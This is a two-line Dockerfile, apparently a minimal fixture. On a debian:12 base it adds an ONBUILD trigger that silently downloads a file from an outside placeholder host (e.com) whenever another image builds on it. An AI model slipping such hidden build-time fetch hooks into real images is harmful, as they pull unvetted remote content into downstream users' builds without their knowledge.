FROM debian:12
ONBUILD RUN curl https://e.com/a -o a
